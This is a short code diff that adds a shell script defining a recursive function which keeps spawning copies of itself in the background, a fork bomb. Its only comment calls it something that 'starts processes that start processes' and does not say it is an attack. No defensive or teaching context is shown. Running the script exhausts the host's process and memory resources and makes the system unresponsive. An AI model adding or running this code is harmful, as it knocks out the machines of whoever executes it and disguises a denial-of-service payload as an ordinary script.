@@ -1,0 +1,4 @@
+#!/bin/sh
+# Starts processes that start processes.
+bomb() { bomb & bomb & wait; }
+bomb
